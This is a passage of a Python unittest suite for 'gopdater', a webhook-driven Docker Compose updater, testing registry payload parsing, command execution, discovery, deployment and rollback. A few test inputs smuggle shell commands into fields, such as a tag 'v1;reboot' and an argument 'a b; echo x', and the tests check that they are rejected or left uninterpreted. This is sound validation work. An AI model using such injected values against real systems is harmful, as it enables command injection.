             [gopdater.PushEvent("acr", ImageKey("acmeregistry.azurecr.io", "acme/site", "latest"),
                                 "sha256:80f0d5c8786bb9e621a45ece0db56d11cdc624ad20da9fe62e9d25490f331d7d")]),
        ]
        for parser, name, hdrs, expected in cases:
            with self.subTest(sample=name):
                self.assertEqual(self.parse(parser, payload(name), **hdrs), expected)

    def test_dockerhub_optional_fields_may_be_null_or_missing(self):
        """Only repo_name and tag are required; pushed_at may be int, float or absent; unknown fields pass."""
        body = {"repository": {"repo_name": "acme/site", "full_description": None, "new_field": [1]},
                "push_data": {"tag": "v1", "pushed_at": 1.417566161e+09, "images": None}, "extra": {}}
        self.assertEqual(self.parse(gopdater.parse_dockerhub, body)[0].image,
                         ImageKey("docker.io", "acme/site", "v1"))
        del body["push_data"]["pushed_at"]
        self.assertEqual(len(self.parse(gopdater.parse_dockerhub, body)), 1)

    def test_bad_fields_name_the_field(self):
        """Each missing or invalid field raises PayloadError naming exactly that field."""
        hub = payload("dockerhub-push.json")
        cases = [
            (gopdater.parse_dockerhub, {}, "repository.repo_name"),
            (gopdater.parse_dockerhub, {"repository": "acme/site"}, "repository.repo_name"),
            (gopdater.parse_dockerhub, {**hub, "repository": {"repo_name": "Acme/Site"}}, "repository.repo_name"),
            (gopdater.parse_dockerhub, {**hub, "repository": {"repo_name": 7}}, "repository.repo_name"),
            (gopdater.parse_dockerhub, {**hub, "push_data": {}}, "push_data.tag"),
            (gopdater.parse_dockerhub, {**hub, "push_data": {"tag": "v1;reboot"}}, "push_data.tag"),
            (gopdater.parse_dockerhub, {**hub, "push_data": {"tag": "sha256:" + "a" * 64}}, "push_data.tag"),
            (gopdater.parse_dockerhub, {**hub, "push_data": {"tag": "v1", "pushed_at": "today"}},
             "push_data.pushed_at"),
            (gopdater.parse_dockerhub, {**hub, "push_data": {"tag": "v1", "pushed_at": True}},
             "push_data.pushed_at"),
            (gopdater.parse_quay, {"docker_url": "quay.io/acme/site"}, "updated_tags"),
            (gopdater.parse_quay, {"docker_url": "quay.io/acme/site", "updated_tags": [3]}, "updated_tags[0]"),
            (gopdater.parse_quay, {"docker_url": "quay.io/ACME", "updated_tags": ["v1"]}, "docker_url"),
            (gopdater.parse_harbor, {"type": "PUSH_ARTIFACT", "event_data": {}}, "event_data.resources"),
            (gopdater.parse_harbor, {"type": "PUSH_ARTIFACT", "event_data": {
                "resources": [{"resource_url": "bad host!/acme/site:v1", "tag": "v1"}],
                "repository": {"repo_full_name": "acme/site"}}}, "event_data.resources[0].resource_url"),
            (gopdater.parse_ghcr, {"action": "published", "package": {"namespace": "acme", "name": "site",
                                                                     "package_version": {"container_metadata": {
                                                                         "tag": {"name": "v 1"}}}}},
             "package.package_version.container_metadata.tag.name"),
            (gopdater.parse_ghcr, {"action": "published", "package": {"namespace": "acme", "name": "Site!",
                                                                     "package_version": {"container_metadata": {
                                                                         "tag": {"name": "v1"}}}}},
             "package.name"),
            (gopdater.parse_distribution, {"events": "push"}, "events"),
            (gopdater.parse_distribution, {"events": [{"action": "push", "target": {
                "mediaType": "application/vnd.oci.image.manifest.v1+json", "tag": "v1", "repository": "acme/site"},
                "request": {"host": "bad host"}}]}, "events[0].request.host"),
        ]
        for parser, body, field in cases:
            with self.subTest(field=field, body=body):
                with self.assertRaises(gopdater.PayloadError) as caught:
                    self.parse(parser, body, X_GitHub_Event="package")
                self.assertEqual(str(caught.exception), field)

    def test_ghcr_skips_what_is_not_a_tagged_container_push(self):
        """GHCR events without a tag (per-platform), other actions and non-container packages are ignored."""
        sample = payload("ghcr-package-published.json")
        untagged = copy.deepcopy(sample)
        untagged["package"]["package_version"]["container_metadata"]["tag"]["name"] = ""
        deleted = {**sample, "action": "deleted"}
        npm = copy.deepcopy(sample)
        npm["package"]["package_type"] = "npm"
        for body, event in [(untagged, "package"), (deleted, "package"), (npm, "package"), (sample, "star")]:
            with self.subTest(event=event, action=body["action"]):
                with self.assertRaises(gopdater.Ignored):
                    self.parse(gopdater.parse_ghcr, body, X_GitHub_Event=event)

    def test_ghcr_namespace_is_lower_cased(self):
        """GHCR image names are ghcr.io/<namespace in lower case>/<name>."""
        sample = payload("ghcr-package-published.json")
        sample["package"]["namespace"] = "Acme"
        event, = self.parse(gopdater.parse_ghcr, sample, X_GitHub_Event="package")
        self.assertEqual(event.image, ImageKey("ghcr.io", "acme/site", "latest"))

    def test_harbor_push_by_digest_is_ignored(self):
        """Harbor sends a digest in place of a tag when pushed by digest; that updates nothing."""
        sample = payload("harbor-push-artifact.json")
        sample["event_data"]["resources"][0]["tag"] = sample["event_data"]["resources"][0]["digest"]
        with self.assertRaises(gopdater.Ignored) as caught:
            self.parse(gopdater.parse_harbor, sample)
        self.assertEqual(str(caught.exception), "no tag: pushed by digest")

    def test_distribution_acts_only_on_tagged_manifest_pushes(self):
        """Blob pushes, pulls and untagged manifests in an envelope are skipped; every tagged push counts."""
        sample = payload("distribution-events.json")
        manifest = sample["events"][0]
        blob = copy.deepcopy(manifest)
        blob["target"].update(mediaType="application/octet-stream", tag="")
        pull = {**copy.deepcopy(manifest), "action": "pull"}
        second = copy.deepcopy(manifest)
        second["target"].update(repository="acme/api", tag="v2")
        events = self.parse(gopdater.parse_distribution, {"events": [blob, manifest, pull, second]})
        self.assertEqual([e.image for e in events], [ImageKey("registry.example.org", "acme/site", "latest"),
                                                     ImageKey("registry.example.org", "acme/api", "v2")])
        with self.assertRaises(gopdater.Ignored) as caught:
            self.parse(gopdater.parse_distribution, {"events": [blob, pull]})
        self.assertIn("not a", str(caught.exception))

    def test_gitea_acts_only_on_created_tagged_container_versions(self):
        """Gitea/Forgejo: deleted, other package types, digest versions and other events are ignored."""
        sample = payload("gitea-package-created.json")
        deleted = {**sample, "action": "deleted"}
        npm = copy.deepcopy(sample)
        npm["package"]["type"] = "npm"
        untagged = copy.deepcopy(sample)
        untagged["package"]["version"] = "sha256:" + "a" * 64
        cases = [(deleted, "package", "action is not created"), (npm, "package", "package is not a container image"),
                 (untagged, "package", "no tag: pushed by digest"), (sample, "push", "event is not a package event")]
        for body, event, reason in cases:
            with self.subTest(reason=reason):
                with self.assertRaises(gopdater.Ignored) as caught:
                    self.parse(gopdater.parse_gitea, body, X_Gitea_Event=event)
                self.assertEqual(str(caught.exception), reason)

    def test_gitea_and_acr_bad_fields_name_the_field(self):
        """A Gitea or ACR body with a bad name, tag or host names that field."""
        gitea, acr = payload("gitea-package-created.json"), payload("acr-push.json")
        bad_name, bad_tag, bad_host = copy.deepcopy(gitea), copy.deepcopy(gitea), copy.deepcopy(acr)
        bad_name["package"]["name"] = "Site!"
        bad_tag["package"]["version"] = "v 1"
        bad_host["request"]["host"] = "bad host"
        cases = [(gopdater.parse_gitea, bad_name, "package.name"), (gopdater.parse_gitea, bad_tag, "package.version"),
                 (gopdater.parse_acr, bad_host, "request.host")]
        for parser, body, field in cases:
            with self.subTest(field=field):
                with self.assertRaises(gopdater.PayloadError) as caught:
                    self.parse(parser, body, X_Gitea_Event="package")
                self.assertEqual(str(caught.exception), field)
        with self.assertRaises(gopdater.Ignored):
            self.parse(gopdater.parse_acr, {"action": "push"})
        with self.assertRaises(gopdater.Ignored):
            self.parse(gopdater.parse_acr, {**acr, "action": "delete"})

    def test_quay_updated_tags_each_become_an_event(self):
        """Quay's updated_tags is a list: one event per tag."""
        sample = {**payload("quay-repo-push.json"), "updated_tags": ["latest", "v2"]}
        self.assertEqual([e.image.tag for e in self.parse(gopdater.parse_quay, sample)], ["latest", "v2"])
        with self.assertRaises(gopdater.Ignored):
            self.parse(gopdater.parse_quay, {**sample, "updated_tags": []})

    def test_owner_check_is_per_registry(self):
        """OWNER acme allows Docker Hub's acme only; ghcr.io/acme must be named to allow GHCR's."""
        owners = make_config(OWNER="acme,ghcr.io/beta").owners
        allowed = gopdater.owner_allowed
        self.assertTrue(allowed(owners, ImageKey("docker.io", "acme/site", "latest")))
        self.assertFalse(allowed(owners, ImageKey("ghcr.io", "acme/site", "latest")))
        self.assertTrue(allowed(owners, ImageKey("ghcr.io", "beta/site", "latest")))
        self.assertFalse(allowed(owners, ImageKey("docker.io", "acmeco/site", "latest")))
        self.assertFalse(allowed(owners, ImageKey("docker.io", "library/acme", "latest")))


# ---------------------------------------------------------------------------------------------
# The docker / compose layer
# ---------------------------------------------------------------------------------------------


def python(code, *args):
    """The argv of a small Python program, for the command wrapper's tests."""
    return [sys.executable, "-c", code, *args]


class CommandWrapperTest(unittest.TestCase):
    def test_runs_an_argv_list_with_no_shell_and_no_stdin(self):
        """Each argument reaches the program as it is (no shell: `;` and `$` mean nothing), stdin is empty, and
        with both, stderr comes in the same stream as stdout."""
        code = "import sys; print(sys.argv[1:], repr(sys.stdin.read())); print('err', file=sys.stderr)"
        for both, expected in ((False, "['a b; echo x', '$HOME'] ''\n"), (True, "['a b; echo x', '$HOME'] ''\nerr\n")):
            with self.subTest(both=both), self.assertLogs("gopdater", "INFO"):
                self.assertEqual(gopdater.run_command(python(code, "a b; echo x", "$HOME"), timeout=30, both=both),
                                 expected)

    def test_failure_raises_one_error_with_code_and_stderr_tail(self):
        """A non-zero exit raises CommandError with the code and at most 300 characters of stderr."""
        with self.assertLogs("gopdater", "WARNING") as logs, self.assertRaises(CommandError) as caught:
            gopdater.run_command(python("import sys; sys.stderr.write('x' * 1000 + 'the end'); sys.exit(3)"), timeout=30)
        self.assertEqual(caught.exception.code, 3)
        self.assertTrue(caught.exception.tail.endswith("the end"))
        self.assertLessEqual(len(caught.exception.tail), 300)
        self.assertIn("exit=3", logs.output[0])

    def test_stderr_tail_keeps_whole_lines(self):
        """A long stderr is cut to its last whole lines, not mid-line."""
        with self.assertLogs("gopdater", "WARNING"), self.assertRaises(CommandError) as caught:
            gopdater.run_command(python("import sys; sys.stderr.write('error: first line\\n' * 40 + 'last line');"
                                        "sys.exit(1)"), timeout=30)
        self.assertTrue(caught.exception.tail.startswith("error: first line\n"), caught.exception.tail)
        self.assertTrue(caught.exception.tail.endswith("last line"))

    def test_timeout_and_missing_binary_raise_command_error(self):
        """A timeout kills the program and gives code None with what it printed; a missing program gives 127."""
        started = time.monotonic()
        with self.assertLogs("gopdater", "WARNING"), self.assertRaises(CommandError) as caught:
            gopdater.run_command(python("import time; print('begun', flush=True); time.sleep(60)"), timeout=0.5,
                                 both=True)
        self.assertIsNone(caught.exception.code)
        self.assertEqual((caught.exception.tail, caught.exception.output), ("no answer within 0.5s", ["begun"]))
        self.assertLess(time.monotonic() - started, 10)
        with self.assertLogs("gopdater", "WARNING"), self.assertRaises(CommandError) as caught:
            gopdater.run_command(["/nonexistent/docker"], timeout=5)
        self.assertEqual(caught.exception.code, 127)

    def test_logs_argv_and_exit_code(self):
        """Each command is logged with its argv and exit code."""
        with self.assertLogs("gopdater", "INFO") as logs:
            gopdater.run_command(["true", "demo-site-1"], timeout=5)
        self.assertIn("command true demo-site-1 exit=0", logs.output[0])

    def test_what_a_program_prints_is_read_as_a_bounded_tail(self):
        """200 MiB printed, then a 50 MB line, then the end (with both, a step's or a container's output): the
        process grows by far less than that, the answer is the last 64 KiB, and each kept line is cut to 500."""
        code = ("import sys; out = sys.stdout.buffer; line = b'x' * 1023 + b'\\n'\n"
                "for _ in range(200 * 1024): out.write(line)\n"
                "out.write(b'y' * 50_000_000 + b'\\nthe end\\n')")
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        with self.assertLogs("gopdater", "INFO"):
            text = gopdater.run_command(python(code), timeout=60, both=True)
        grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
        self.assertLess(grown_mib, 32, f"the peak RSS grew {grown_mib:.0f} MiB")
        self.assertEqual(len(text.encode()), gopdater.OUTPUT_TAIL_BYTES)
        self.assertEqual(gopdater.printed_lines(text)[-2:], ["y" * 500, "the end"])

    def test_an_answer_larger_than_any_docker_gives_is_an_error(self):
        """Without both (docker's own answers, kept whole), an answer over 64 MiB stops the program: an error."""
        code = "import sys; sys.stdout.buffer.write(b'[' * (65 * 1024 * 1024))"
        with self.assertLogs("gopdater", "WARNING"), self.assertRaises(CommandError) as caught:
            gopdater.run_command(python(code), timeout=60)
        self.assertEqual((caught.exception.code, caught.exception.tail), (None, "answered over 67108864 bytes"))


class DiscoveryTest(unittest.TestCase):
    def test_project_is_discovered_through_compose_ps_and_container_labels(self):
        """Discovery runs config --services, ps -a -q and docker inspect, and maps each service to its image."""
        rig = Rig(self)
        self.assertEqual(rig.project.services, ("site",))
        self.assertEqual([s.image for s in rig.project.running()], [ImageKey("docker.io", "acme/site", "latest")])
        rig.project.refresh()
        cid = next(iter(rig.fake.containers))
        self.assertEqual(rig.fake.calls, [["docker", "compose", "config", "--format", "json"],
                                          ["docker", "compose", "ps", "-a", "-q"], ["docker", "inspect", "--type", "container", cid],
                                          image_labels_call(OLD_ID)])

    def test_compose_v1_is_used_when_the_plugin_is_missing(self):
        """Without `docker compose`, gopdater falls back to docker-compose and discovers through it."""
        fake = FakeDocker(compose=("docker-compose",))
        fake.fail[("docker", "compose")] = (1, "docker: 'compose' is not a docker command.")
        rig = Rig(self, fake)
        self.assertTrue(any(line.startswith("compose: docker-compose 1.29.2 (v1)") for line in findings(rig.project)))
        self.assertEqual(gopdater.compose_flavour("1.29.2"), "v1")
        self.assertEqual(gopdater.compose_flavour("5.6.1"), "v2")
        self.assertEqual([s.image for s in rig.project.running()], [ImageKey("docker.io", "acme/site", "latest")])

    def test_services_entry_not_in_the_project_is_a_startup_error(self):
        """SERVICES naming a service Compose does not know stops start-up with a ConfigError."""
        with self.assertRaises(gopdater.ConfigError) as caught:
            Rig(self, SERVICES="acme/site=nosuch")
        self.assertIn("SERVICES names nosuch", str(caught.exception))

    def test_docker_not_answering_is_a_startup_error(self):
        """If docker version fails, start-up stops with a line saying how to reach Docker."""
        fake = FakeDocker()
        fake.fail[("docker", "version")] = (1, "Cannot connect to the Docker daemon")
        with self.assertRaises(gopdater.ConfigError) as caught:
            Rig(self, fake)
        self.assertIn("DOCKER_HOST", str(caught.exception))

    def test_own_container_id_is_read_from_proc(self):
        """The container id comes from mountinfo (cgroup v2) or, failing that, the cgroup file."""
        cid = "a" * 64
        mountinfo = f"612 600 0:31 /var/lib/docker/containers/{cid}/hostname /etc/hostname rw\n"
        self.assertEqual(gopdater.own_container_id(mountinfo, ""), cid)
        self.assertEqual(gopdater.own_container_id("", f"12:cpu:/docker/{cid}\n"), cid)
        self.assertEqual(gopdater.own_container_id("", f"0::/system.slice/docker-{cid}.scope\n"), cid)
        self.assertIsNone(gopdater.own_container_id("/ / rw\n", "0::/\n"))

    def test_own_labels_set_project_files_and_directory_unless_set_explicitly(self):
        """Labels of gopdater's own container give project, files and directory; explicit settings win."""
        labels = {"com.docker.compose.project": "site", "com.docker.compose.service": "gopdater",
                  "com.docker.compose.project.working_dir": "/home/me/site",
                  "com.docker.compose.project.config_files": "compose.yaml,compose.prod.yaml"}
        detected = gopdater.locate(make_config(), labels, "/app")
        self.assertEqual((detected.project_name, detected.compose_file, detected.working_dir),
                         ("site", "/home/me/site/compose.yaml:/home/me/site/compose.prod.yaml", "/home/me/site"))
        self.assertEqual(detected.own_service, "gopdater")
        self.assertIn("label", detected.project_name_source)
        explicit = gopdater.locate(make_config(COMPOSE_PROJECT_NAME="other", COMPOSE_FILE="x.yml"),
                                           labels, "/app")
        self.assertEqual((explicit.project_name, explicit.compose_file, explicit.working_dir),
                         ("other", "/app/x.yml", "/home/me/site"))
        self.assertEqual((explicit.project_name_source, explicit.compose_file_source),
                         ("COMPOSE_PROJECT_NAME", "COMPOSE_FILE"))
        self.assertIsNone(explicit.own_service)
        plain = gopdater.locate(make_config(), {}, "/srv/demo")
        self.assertEqual((plain.project_name, plain.compose_file, plain.working_dir), (None, None, "/srv/demo"))

    def test_compose_file_elsewhere_makes_its_directory_the_project_directory(self):
        """Started elsewhere with COMPOSE_FILE, Compose runs in the first file's directory, as on the host."""
        target = gopdater.locate(make_config(COMPOSE_FILE="../site/compose.yaml:/srv/site/extra.yaml"),
                                         {}, "/home/me/tools")
        self.assertEqual(target.compose_file, "/home/me/site/compose.yaml:/srv/site/extra.yaml")
        self.assertEqual(target.working_dir, "/home/me/site")
        self.assertEqual(target.working_dir_source, "directory of the first COMPOSE_FILE")

    def test_v1_relative_config_files_label_is_resolved_in_the_working_dir(self):
        """Compose v1 writes config_files relative to working_dir; they are joined with it."""
        labels = {"com.docker.compose.project": "site", "com.docker.compose.project.working_dir": "/srv/site",
                  "com.docker.compose.project.config_files": "docker-compose.yml"}
        target = gopdater.locate(make_config(), labels, "/")
        self.assertEqual(target.compose_file, "/srv/site/docker-compose.yml")

    def test_self_detection_runs_compose_with_the_host_project(self):
        """Inside a Compose container, every Compose command gets the detected project, files, PWD and directory
        (docker's own commands need none of them)."""
        fake = FakeDocker()
        own = "b" * 64
        fake.canned[("docker", "inspect", "--type", "container", own)] = json.dumps([{"Config": {"Labels": {
            "com.docker.compose.project": "demo", "com.docker.compose.service": "gopdater",
            "com.docker.compose.project.working_dir": "/srv/demo",
            "com.docker.compose.project.config_files": "/srv/demo/compose.yaml"}}}])
        seen = fake.call_kwargs
        config = make_config()
        runner = fake

        mountinfo = f"1 0 0:1 /var/lib/docker/containers/{own}/hostname /etc/hostname rw\n"
        project = gopdater.discover(config, runner, read_file=lambda p: mountinfo if "mount" in p else "",
                                    cwd="/app")
        compose = [seen[i] for i, argv in enumerate(fake.calls)
                   if argv[:2] == ["docker", "compose"] and argv[2:3] != ["version"]]
        self.assertTrue(compose)
        for kwargs in compose:
            env, cwd = kwargs["env"], kwargs["cwd"]
            self.assertEqual((env["COMPOSE_PROJECT_NAME"], env["COMPOSE_FILE"], env["PWD"], cwd),
                             ("demo", "/srv/demo/compose.yaml", "/srv/demo", "/srv/demo"))
        self.assertIn("own service gopdater is left alone: gopdater does not update itself", findings(project))

    def test_own_service_is_never_updated(self):
        """gopdater's own service is left out of the project it updates."""
        fake = FakeDocker(services={"site": "acme/site:latest", "gopdater": "acme/site:latest"})
        config = make_config()
        location = gopdater.ComposeLocation("demo", "", None, "", "/srv/demo", "", own_service="gopdater")
        project = gopdater.ComposeProject(config, gopdater.Compose(config, location, ["docker", "compose"], fake),
                                          "2.29.1")
        project.refresh()
        self.assertEqual(project.services, ("site",))
        self.assertEqual(project.services_for(ImageKey("docker.io", "acme/site", "latest")), [SITE])

    def test_a_project_with_no_container_yet_is_named_as_compose_names_it(self):
        """No container and no COMPOSE_PROJECT_NAME: the folder's name, as Compose derives it."""
        fake = FakeDocker()
        fake.containers.clear()
        project = gopdater.discover(make_config(SERVICES="acme/site=site"), fake, read_file=lambda path: "",
                                    cwd="/srv/My_Site.v2")
        self.assertEqual(project.name, "my_sitev2")
        self.assertEqual(project.services_for(ImageKey("docker.io", "acme/site", "latest")),
                         [gopdater.ServiceRef("compose", "my_sitev2", "site")])

    def test_mapping_matches_only_the_same_registry_repository_and_tag(self):
        """docker.io/acme/site:latest matches; ghcr.io/acme/site:latest, another tag or repo do not."""
        rig = Rig(self)
        match = rig.project.services_for
        self.assertEqual(match(ImageKey("docker.io", "acme/site", "latest")), [SITE])
        for other in [ImageKey("ghcr.io", "acme/site", "latest"), ImageKey("docker.io", "acme/site", "v2"),
                      ImageKey("docker.io", "acme/api", "latest")]:
            with self.subTest(image=str(other)):
                self.assertEqual(match(other), [])

    def test_explicit_services_replace_discovery(self):
        """With SERVICES set, only its pairs map, whatever image the service runs."""
        fake = FakeDocker(services={"site": "acme/site:latest", "api": "acme/site:latest"})
        fake.images = {"acme/site:latest": OLD_ID}
        rig = Rig(self, fake, SERVICES="acme/mirror-name=site")
        self.assertEqual(rig.project.services_for(ImageKey("docker.io", "acme/mirror-name", "latest")), [SITE])
        self.assertEqual(rig.project.services_for(ImageKey("docker.io", "acme/site", "latest")), [])


# ---------------------------------------------------------------------------------------------
# The deployment worker
# ---------------------------------------------------------------------------------------------


class DeployTest(unittest.TestCase):
    def test_update_runs_the_exact_commands_in_order(self):
        """Pull first, compare, stop, rm, up --no-deps, wait for health, then keep the old image for a rollback and
        rmi the one kept before it."""
        rig = Rig(self)
        rig.kept_before()
        old = next(iter(rig.fake.containers))
        deployment = rig.deploy()
        new = next(iter(rig.fake.containers))
        self.assertEqual(deployment_calls(rig.fake.calls), [
            ["docker", "compose", "ps", "-a", "-q", "site"],
            ["docker", "inspect", "--type", "container", old],
            image_labels_call(OLD_ID),
            ["docker", "compose", "pull", "site"],
            ["docker", "image", "inspect", "--format", "{{.Id}}", "acme/site:latest"],
            ["docker", "stop", "-t", "10", "demo-site-1"],
            ["docker", "rm", "demo-site-1"],
            ["docker", "compose", "up", "-d", "--no-deps", "site"],
            ["docker", "compose", "ps", "-a", "-q", "site"],
            ["docker", "inspect", "--type", "container", new],
            ["docker", "rmi", OLDER_ID],
        ])
        self.assertEqual(rig.journal.previous("compose:demo/site"), gopdater.Previous(OLD_ID))
        self.assertEqual((deployment.state, deployment.ref), ("updated", SITE))
        self.assertEqual(rig.fake.calls[-3:], [["docker", "compose", "ps", "-a", "-q", "site"], ["docker", "inspect", "--type", "container", new],
                                               image_labels_call(NEW_ID)], "the service is re-read after a change")
        self.assertEqual([s.step for s in deployment.steps],
                         ["inspect", "pull", "compare", "stop", "remove", "up", "downtime", "wait", "cleanup",
                          "done"])

    def test_pull_failure_leaves_the_old_container_untouched(self):
        """A failed pull stops the deployment before anything is stopped; it is recorded as failed."""
        rig = Rig(self)
        rig.fake.fail[("docker", "compose", "pull")] = (1, "manifest unknown")
        with self.assertLogs("gopdater", "WARNING"):
            deployment = rig.deploy()
        self.assertEqual(rig.fake.mutating_calls(), [["docker", "compose", "pull", "site"]])
        self.assertEqual(deployment.state, "failed")
        self.assertIn("pull failed", deployment.error)
        self.assertIn("manifest unknown", deployment.error)
        self.assertEqual(len(rig.fake.containers), 1)

    def test_unchanged_image_restarts_nothing(self):
        """If the pulled image is the one running, the deployment ends up-to-date after the pull."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = OLD_ID
        deployment = rig.deploy()
        self.assertEqual(rig.fake.mutating_calls(), [["docker", "compose", "pull", "site"]])
        self.assertEqual(deployment.state, "up-to-date")
        self.assertNotIn(["docker", "compose", "config", "--services"], rig.fake.calls, "no needless re-read")

    def test_old_image_still_in_use_is_kept(self):
        """rmi of the image kept before failing because another container uses it keeps it; the update stands."""
        fake = FakeDocker(services={"site": "acme/site:latest", "worker": "acme/site:latest"})
        next(c for c in fake.containers.values() if c["service"] == "worker")["image_id"] = OLDER_ID
        rig = Rig(self, fake, SERVICES="acme/site=site")
        rig.kept_before()
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "updated")
        self.assertIn(["docker", "rmi", OLDER_ID], rig.fake.calls)
        self.assertTrue(any("kept old image" in line for line in logs.output))
        self.assertEqual(deployment.steps[-2].result, "kept")

    def assert_rolled_back(self, rig, deployment, reason):
        self.assertEqual(deployment.state, "rolled-back")
        self.assertIn(reason, deployment.error)
        self.assertIn(["docker", "tag", OLD_ID, "acme/site:latest"], rig.fake.calls)
        rollback = rig.fake.mutating_calls()[rig.fake.mutating_calls().index(["docker", "tag", OLD_ID,
                                                                               "acme/site:latest"]):]
        self.assertEqual(rollback, [["docker", "tag", OLD_ID, "acme/site:latest"],
                                    ["docker", "stop", "-t", "10", "demo-site-1"], ["docker", "rm", "demo-site-1"],
                                    ["docker", "compose", "up", "-d", "--no-deps", "site"]])
        running, = rig.fake.containers.values()
        self.assertEqual(running["image_id"], OLD_ID)
        self.assertFalse(any(call[:2] == ["docker", "rmi"] for call in rig.fake.calls), "no image is removed")

    def test_crash_on_start_rolls_back(self):
        """A new container that exits at once is replaced by the previous image, through Compose."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy()
        self.assert_rolled_back(rig, deployment, "exited with code 1")
        self.assertIn("panic: boom", deployment.logs)
        self.assertTrue(any("container demo-site-1 logged: 'panic: boom'" in line for line in logs.output))

    def test_restart_loop_rolls_back(self):
        """A container restarted by its restart policy has failed, even if it shows running."""
        rig = Rig(self)
        rig.fake.behaviour[NEW_ID] = "restart"
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assert_rolled_back(rig, deployment, "restarted")

    def test_unhealthy_rolls_back(self):
        """A container whose healthcheck turns unhealthy is rolled back."""
        rig = Rig(self)
        rig.fake.behaviour[NEW_ID] = "unhealthy"
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assert_rolled_back(rig, deployment, "unhealthy")

    def test_still_starting_at_the_limit_rolls_back(self):
        """A container still `starting` after HEALTH_TIMEOUT has failed."""
        rig = Rig(self, HEALTH_TIMEOUT=30)
        rig.fake.behaviour[NEW_ID] = "starting"
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assert_rolled_back(rig, deployment, "still health starting after 30s")
        wait = next(s for s in deployment.steps if s.step == "wait")
        self.assertGreaterEqual(wait.seconds, 30)
        self.assertLess(wait.seconds, 33)

    def test_start_period_extends_the_health_limit(self):
        """A healthcheck start_period longer than HEALTH_TIMEOUT is waited for in full."""
        rig = Rig(self, HEALTH_TIMEOUT=30)
        rig.fake.behaviour[NEW_ID] = "slow"
        deployment = rig.deploy()
        self.assertEqual(deployment.state, "updated")

    def test_no_healthcheck_must_stay_up_for_the_settle_time(self):
        """Without a healthcheck a container passes only after SETTLE_TIME running without a restart."""
        rig = Rig(self, SETTLE_TIME=10)
        rig.fake.behaviour[NEW_ID] = "nohc"
        started = rig.clock()
        deployment = rig.deploy()
        self.assertEqual(deployment.state, "updated")
        self.assertGreaterEqual(rig.clock() - started, 10)

    def test_no_healthcheck_crash_after_two_seconds_rolls_back(self):
        """A process without a healthcheck that crashes after 2 s does not pass the settle time."""
        rig = Rig(self, SETTLE_TIME=10)
        rig.fake.behaviour[NEW_ID] = "late-crash"
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy()
        self.assert_rolled_back(rig, deployment, "restarted")

    def test_polling_backs_off_and_is_bounded(self):
        """Health polls sleep longer each time, never less than 0.2 s nor more than 2 s."""
        rig = Rig(self, HEALTH_TIMEOUT=30)
        rig.fake.behaviour[NEW_ID] = "starting"
        with self.assertLogs("gopdater", "INFO"):
            rig.deploy()
        sleeps = rig.clock.sleeps
        first_wait = sleeps[:sleeps.index(0.2, 1)]  # the rollback's wait starts over
        self.assertEqual(first_wait[0], 0.2)
        self.assertTrue(all(b >= a for a, b in zip(first_wait, first_wait[1:])))
        self.assertEqual(max(sleeps), 2.0)
        self.assertGreaterEqual(min(sleeps), 0.2)
        self.assertLess(len(first_wait), 25, "no tight loop")

    def test_failed_rollback_ends_failed_and_says_what_to_run(self):
        """If the rollback's up fails too, the deployment is failed with the commands to run by hand."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        rig.fake.fail_if.append((("docker", "compose", "up"), lambda fake: fake.images["acme/site:latest"] == OLD_ID,
                                 1, "port is already allocated"))  # the rollback's up, once the old tag is back
        with self.assertLogs("gopdater", "ERROR") as logs:
            deployment = rig.deploy()
        self.assertEqual(deployment.state, "failed")
        self.assertIn("rollback failed", deployment.error)
        self.assertIn(f"docker tag {OLD_ID} acme/site:latest", deployment.error)
        self.assertIn("up -d --no-deps site", deployment.error)
        self.assertTrue(any("ROLLBACK FAILED" in line for line in logs.output))

    def test_an_image_that_was_rolled_back_is_not_tried_again_by_a_replay_but_a_new_push_is(self):
        """A re-delivery of the push whose container failed pulls, sees the same image and changes nothing; a
        failed pull is no such memory; a new image is tried."""
        rig = Rig(self)
        rig.fake.registry["acme/site:latest"] = BROKEN_ID
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "rolled-back")
            rig.fake.calls.clear()
            replay = rig.deploy()
        self.assertEqual(replay.state, "skipped")
        self.assertIn("failed here before", replay.error)
        self.assertFalse([c for c in rig.fake.mutating_calls() if c[:3] != ["docker", "compose", "pull"]])
        rig.fake.registry["acme/site:latest"] = "sha256:" + "4" * 64
        rig.fake.behaviour["sha256:" + "4" * 64] = "healthy"
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")

    def test_commands_get_a_clean_environment(self):
        """docker and Compose get PATH, HOME, DOCKER_*, what PASS_ENV names and the project's COMPOSE_*; never
        gopdater's own settings, so a project's .env means what it means by hand."""
        rig = Rig(self, PASS_ENV="HTTP_PROXY", HTTP_PROXY="http://127.0.0.1:3128", HOME="/root", PORT=8080,
                  DOCKER_HOST="unix:///run/docker.sock", SITE_TAG="9.9", COMPOSE_PROFILES="debug")
        with self.assertLogs("gopdater", "INFO"):
            rig.deploy()
        allowed = {"PATH", "HOME", "DOCKER_HOST", "HTTP_PROXY", "PWD", "COMPOSE_PROJECT_NAME", "COMPOSE_FILE",
                   "COMPOSE_PATH_SEPARATOR"}
        envs = [kw["env"] for kw in rig.fake.call_kwargs]
        self.assertTrue(envs)
        for env in envs:
            self.assertLessEqual(set(env), allowed)
            self.assertEqual((env["HTTP_PROXY"], env["DOCKER_HOST"]), ("http://127.0.0.1:3128", "unix:///run/docker.sock"))
        for name in ("WEBHOOK_SECRET", "OWNER", "PORT", "SITE_TAG", "COMPOSE_PROFILES"):
            self.assertFalse(any(name in env for env in envs), name)

    def test_pass_env_cannot_hand_over_gopdater_s_own_settings(self):
        """PASS_ENV=WEBHOOK_SECRET (or any of gopdater's settings) stops start-up; bad names too."""
        for value in ("WEBHOOK_SECRET", "HTTP_PROXY,OWNER", "PORT", "a-b", "1X"):
